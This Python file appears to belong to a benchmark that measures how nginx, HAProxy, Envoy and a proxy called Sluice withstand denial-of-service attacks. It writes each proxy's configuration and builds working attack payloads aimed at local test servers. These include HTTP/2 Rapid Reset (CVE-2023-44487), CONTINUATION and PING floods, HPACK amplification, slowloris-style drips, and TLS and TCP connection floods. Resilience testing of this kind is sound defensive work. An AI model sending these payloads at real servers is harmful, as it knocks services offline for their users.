"""The attacked proxies: how each is configured, and what attackers send.

A function per proxy: Setup -> text of its file. Each serves the same five things, on a port for HTTP/1.1, on one for
HTTP/2 without TLS, and on one with TLS; everything else has its default value, except for the number of workers and of
connections, what a comment names, and, with `is_hardened`, what the documentation of each recommends for an edge: for nginx the
timeouts of its article on denial of service, for HAProxy those of its manual, for Envoy its page on the edge. Sluice has its
defaults.
"""
import json, ssl, struct
from dataclasses import dataclass
from typing import Callable

from configurations import nginx_head
from machine import LOCAL

SMALL = ' '.join(['hello world'] * 10) + '\n'          # Of /small, from a healthy origin: 120 bytes.
BODY_PIECE, PIECES = 'b' * 1024, 64
BODY = BODY_PIECE * PIECES                             # Of /body, in the configuration.
PAGE = 'p' * 12288                                     # Of /page, whose upstream is down.
PAGE_FILE, BODY_FILE = 'page.txt', 'body.txt'
DOWN = 1                                               # Nothing listens on this port.
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
HAPROXY_BUFFER = 2 * len(BODY)                         # Otherwise it accepts no such body.


@dataclass(frozen=True)
class Setup:
    ports: tuple                                       # Of the proxy: HTTP/1.1, HTTP/2, TLS.
    origin: int                                        # Has /small.
    silent: int                                        # Receives /hold and never responds.
    connections: int                                   # The limit of connections.
    workers: int
    has_body: bool                                     # /body is served.
    is_hardened: bool
    certificate: str                                   # Files.
    key: str


LISTENERS = ('h1', 'h2', 'tls')                        # Of sluice, by port.
FILES = {PAGE_FILE: PAGE, BODY_FILE: BODY}             # Next to each configuration.


def nginx(setup):
    # A word of its configuration is limited to 4 KiB.
    users = ('client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi')
    folders = ' '.join(f'{user}_temp_path proxy_{user};' for user in users)
    head = nginx_head(setup.ports[0], setup.connections, setup.workers).replace('stderr;', 'stderr crit;')
    body = f'location = /body {{ set $piece "{BODY_PIECE}"; return 200 "{"$piece" * PIECES}"; }}'
    hardened = ('client_header_timeout 5s; client_body_timeout 5s; send_timeout 5s; keepalive_timeout 30s; '
                'reset_timedout_connection on; client_header_buffer_size 1k; large_client_header_buffers 4 8k;')
    return head + f'''http {{
  access_log off; {folders}
  upstream origin {{ server {LOCAL}:{setup.origin}; keepalive 32; }}
  proxy_http_version 1.1; proxy_set_header Connection ""; {hardened if setup.is_hardened else ''}
  ssl_certificate {setup.certificate}; ssl_certificate_key {setup.key};
  server {{
    listen {LOCAL}:{setup.ports[0]} backlog=4096; listen {LOCAL}:{setup.ports[1]} backlog=4096 http2;
    listen {LOCAL}:{setup.ports[2]} backlog=4096 ssl;
    root .; error_page 502 503 504 /{PAGE_FILE};
    location / {{ proxy_pass http://origin; }}
    location = /hold {{ proxy_pass http://{LOCAL}:{setup.silent}; }}
    location = /page {{ proxy_pass http://{LOCAL}:{DOWN}; }}
    location = /{PAGE_FILE} {{ internal; }}
    {body if setup.has_body else ''}
  }}
}}
'''


def haproxy(setup):
    # Without retries: a refused connect is retried after a second, and pages would be few. Its timeouts have no
    # defaults.
    body = f'  http-request return status 200 content-type text/plain file {BODY_FILE} if {{ path /body }}\n'
    return (f'global\n  nbthread {setup.workers}\n  maxconn {setup.connections // 2 - 50}\n'
            + f'  tune.bufsize {HAPROXY_BUFFER}\n' * setup.has_body +
            '  tune.h2.max-concurrent-streams 100\n' * setup.is_hardened +
            f'defaults\n  mode http\n  timeout connect 5s\n  timeout client 60s\n  timeout server 60s\n' +
            '  timeout http-request 5s\n  timeout http-keep-alive 10s\n' * setup.is_hardened +
            f'frontend all\n  bind {LOCAL}:{setup.ports[0]}\n  bind {LOCAL}:{setup.ports[1]} proto h2\n'
            f'  bind {LOCAL}:{setup.ports[2]} ssl crt {setup.certificate}\n'
            + body * setup.has_body +
            f'  use_backend silent if {{ path /hold }}\n  use_backend down if {{ path /page }}\n  default_backend origin\n'
            f'backend origin\n  server origin {LOCAL}:{setup.origin}\n'
            f'backend silent\n  server silent {LOCAL}:{setup.silent}\n'
            f'backend down\n  retries 0\n  http-error status 503 content-type text/plain file {PAGE_FILE}\n'
            f'  server down {LOCAL}:{DOWN}\n')


def envoy(setup):
    def address(port): return {'socket_address': {'address': LOCAL, 'port_value': port}}
    def typed(what, **fields): return {'@type': 'type.googleapis.com/envoy.extensions.filters.' + what, **fields}
    limit = {'per_connection_buffer_limit_bytes': 32768} if setup.is_hardened else {}
    edge = {
        'common_http_protocol_options': {'idle_timeout': '3600s', 'headers_with_underscores_action': 'REJECT_REQUEST'},
        'http2_protocol_options': {'max_concurrent_streams': 100, 'initial_stream_window_size': 65536,
                                   'initial_connection_window_size': 1048576},
        'stream_idle_timeout': '300s', 'request_timeout': '300s', 'request_headers_timeout': '5s',
        'use_remote_address': True, 'normalize_path': True, 'merge_slashes': True} if setup.is_hardened else {}
    def cluster(name, port):
        return {'name': name, 'connect_timeout': '5s', **limit, 'load_assignment': {'cluster_name': name, 'endpoints': [
            {'lb_endpoints': [{'endpoint': {'address': address(port)}}]}]}}
    def route(where, name): return {'match': where, 'route': {'cluster': name}}
    body = {'match': {'path': '/body'}, 'direct_response': {'status': 200, 'body': {'filename': BODY_FILE}}}
    routes = [body] * setup.has_body + [route({'path': '/hold'}, 'silent'), route({'path': '/page'}, 'down'),
                                       route({'prefix': '/'}, 'origin')]
    pages = {'mappers': [{
        'filter': {'status_code_filter': {'comparison': {'op': 'GE', 'value': {
            'default_value': 500, 'runtime_key': 'pages'}}}},
        'body_format_override': {'text_format_source': {'filename': PAGE_FILE}}}]}
    manager = {'name': 'envoy.filters.network.http_connection_manager', 'typed_config': typed(
        'network.http_connection_manager.v3.HttpConnectionManager', stat_prefix='all', local_reply_config=pages, **edge,
        http_filters=[{'name': 'envoy.filters.http.router', 'typed_config': typed('http.router.v3.Router')}],
        route_config={'max_direct_response_body_size_bytes': len(BODY),
                      'virtual_hosts': [{'name': 'all', 'domains': ['*'], 'routes': routes}]})}
    files = {'certificate_chain': {'filename': setup.certificate}, 'private_key': {'filename': setup.key}}
    tls = {'transport_socket': {'name': 'envoy.transport_sockets.tls', 'typed_config': {
        '@type': 'type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.DownstreamTlsContext',
        'common_tls_context': {'tls_certificates': [files]}}}}
    return json.dumps({**(overload_of_envoy(setup) if setup.is_hardened else {}), 'static_resources': {
        'listeners': [{'name': str(port), 'address': address(port), **limit,
                       'filter_chains': [{'filters': [manager], **(tls if port == setup.ports[2] else {})}]}
                      for port in setup.ports],
        'clusters': [cluster('origin', setup.origin), cluster('silent', setup.silent), cluster('down', DOWN)]}})


def overload_of_envoy(setup):
    """Its overload manager as on its page about the edge, with the memory that Sluice has."""
    actions = {'envoy.overload_actions.shrink_heap': 0.95, 'envoy.overload_actions.stop_accepting_requests': 0.98}
    heap = 'envoy.resource_monitors.fixed_heap'
    def monitor(name, kind, **fields):
        return {'name': name, 'typed_config': {'@type': 'type.googleapis.com/envoy.extensions.resource_monitors.' + kind,
                                               **fields}}
    return {'overload_manager': {'refresh_interval': '0.25s', 'resource_monitors': [
        monitor(heap, 'fixed_heap.v3.FixedHeapConfig', max_heap_size_bytes=(256 << 20) * setup.workers),
        monitor('envoy.resource_monitors.global_downstream_max_connections',
                'downstream_connections.v3.DownstreamConnectionsConfig', max_active_downstream_connections=setup.connections)],
        'actions': [{'name': name, 'triggers': [{'name': heap, 'threshold': {'value': value}}]}
                    for name, value in actions.items()]}}


def sluice(setup):
    body = {'match': {'path': {'exact': '/body'}}, 'respond': {'status': 200, 'body': BODY}}
    routes = [body] * setup.has_body + [{'match': {'path': {'exact': '/hold'}}, 'forward': 'silent'},
                                       {'match': {'path': {'exact': '/page'}}, 'forward': 'down'},
                                       {'forward': 'origin'}]
    http = {'routes': routes, 'errors': [{'status': '5xx', 'body': PAGE}]}
    upstreams = {'origin': setup.origin, 'silent': setup.silent, 'down': DOWN}
    tls = {'certificates': [{'chain': setup.certificate, 'key': setup.key}]}
    return json.dumps({
        'workers': setup.workers,
        'listeners': [{'name': name, 'address': f'{LOCAL}:{port}', 'max_connections': setup.connections, 'http': http,
                       **({'tls': tls} if name == 'tls' else {})} for name, port in zip(LISTENERS, setup.ports)],
        'upstreams': [{'name': name, 'endpoints': [f'{LOCAL}:{port}']} for name, port in upstreams.items()]})


CONFIGURATIONS = {'nginx': nginx, 'haproxy': haproxy, 'envoy': envoy, 'sluice': sluice}


def healthy_origin(ports, connections):
    """nginx's file: /small, in HTTP/1.1 and in HTTP/2, so that it can also be measured directly."""
    users = ('client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi')
    folders = ' '.join(f'{user}_temp_path origin_{user};' for user in users)
    return nginx_head(ports[0], connections) + f'''http {{
  access_log off; keepalive_requests 1000000; {folders}
  server {{
    listen {LOCAL}:{ports[0]} backlog=4096; listen {LOCAL}:{ports[1]} backlog=4096 http2;
    location = /small {{ return 200 "{SMALL}"; }}
  }}
}}
'''


# ---- Attacks

def http2_frame(kind, flags=0, stream=0, payload=b''):
    return struct.pack('>IBI', len(payload) << 8 | kind, flags, stream) + payload


PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
INITIAL_WINDOW = 4


def request_block(method, path):
    """A header block without entries of the dynamic table (RFC 7541 appendix A)."""
    authority, path = LOCAL.encode(), path.encode()
    return {'GET': b'\x82', 'POST': b'\x83'}[method] + b'\x86\x01' + bytes([len(authority)]) + authority + (
        b'\x04' + bytes([len(path)]) + path)


def amplified_heads(streams=100, value_bytes=4032, uses=7):
    """Heads of POST requests, each of which refers `uses` times to one entry of the HPACK table; the bodies are never
    sent."""
    start = request_block('POST', '/hold')
    rest = value_bytes - 127                           # RFC 7541 section 5.1; two more bytes suffice.
    entry = b'\x40\x01x\x7f' + bytes([rest & 127 | 128, rest >> 7]) + b'v' * value_bytes
    reference = bytes([0x80 | 62])                     # The newest entry.
    blocks = [start + (entry + reference * (uses - 1) if number == 0 else reference * uses) for number in range(streams)]
    return PREFACE + http2_frame(SETTINGS) + b''.join(
        http2_frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number, block in enumerate(blocks))


def pipelined(path, count=1000): return f'GET {path} HTTP/1.1\r\nHost: {LOCAL}\r\n\r\n'.encode() * count


def closed_windows(streams=100):
    """Requests whose responses no window lets out."""
    block = request_block('GET', '/body')
    return PREFACE + http2_frame(SETTINGS, payload=struct.pack('>HI', INITIAL_WINDOW, 0)) + b''.join(
        http2_frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block) for number in range(streams))


def resets(streams=4000):
    """CVE-2023-44487: requests that are reset at once."""
    block, code = request_block('GET', '/hold'), struct.pack('>I', 8)
    return PREFACE + http2_frame(SETTINGS) + b''.join(
        http2_frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block) +
        http2_frame(RST_STREAM, 0, 2 * number + 1, code) for number in range(streams))


def continuations():
    """VU#421644: a header block that does not end."""
    return PREFACE + http2_frame(SETTINGS) + http2_frame(HEADERS, END_STREAM, 1, request_block('GET', '/small'))


CONTINUED = http2_frame(CONTINUATION, 0, 1, b'\x00\x01x\x01y' * 2000)


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    try: context.wrap_bio(incoming, outgoing, server_hostname='a.test').do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()


@dataclass(frozen=True)
class Attack:
    title: str
    opening: Callable                                  # -> the data that each connection sends first.
    port: int                                          # Index in Setup.ports.
    then: str = 'nothing'                              # See attackers.py.
    more: bytes = b''
    needs_body: bool = False                           # See Setup.has_body.
    counter: str = ''                                  # Of sluice: at least one for each connection.


def constant(data): return lambda: data


HEAD = f'GET /small HTTP/1.1\r\nHost: {LOCAL}\r\n'.encode()
POST = f'POST /hold HTTP/1.1\r\nHost: {LOCAL}\r\nContent-Length: 1000000\r\n\r\n'.encode()

ATTACKS = {
    'heads': Attack('HTTP/2: 100 POSTs without their bodies, whose heads of 28 KiB refer to one HPACK entry',
                    amplified_heads, 1, counter='http2_streams_total'),
    'body': Attack('HTTP/1.1: 1,000 pipelined GETs for a configured body of 64 KiB, nothing read',
                   lambda: pipelined('/body'), 0, needs_body=True, counter='http1_messages_total'),
    'page': Attack('HTTP/1.1: 1,000 pipelined GETs for an error page of 12 KiB, nothing read',
                   lambda: pipelined('/page'), 0, counter='http1_messages_total'),
    'slow_head': Attack('HTTP/1.1: a head, a byte each half second', constant(HEAD), 0, 'drip', b'x: y\r\n'),
    'slow_body': Attack('HTTP/1.1: a body, a byte each half second', constant(POST), 0, 'drip', b'b',
                        counter='http1_messages_total'),
    'windows': Attack('HTTP/2: 100 GETs for a body of 64 KiB that no window lets out', closed_windows, 1, needs_body=True,
                      counter='http2_streams_total'),
    'resets': Attack('HTTP/2: requests that are reset at once, without end (CVE-2023-44487)', resets, 1, 'reconnect',
                     counter='http2_streams_total'),
    'continuations': Attack('HTTP/2: CONTINUATION without end (VU#421644)', continuations, 1, 'flood', CONTINUED),
    'pings': Attack('HTTP/2: PING without end', constant(PREFACE + http2_frame(SETTINGS)), 1, 'flood',
                    http2_frame(PING, payload=b'attacker') * 1000),
    'handshakes': Attack('TLS: a ClientHello, and another connection once the server has responded', client_hello, 2,
                         'reconnect'),
    'connections': Attack('TCP: connections that are reset at once', constant(b''), 0, 'reconnect')}
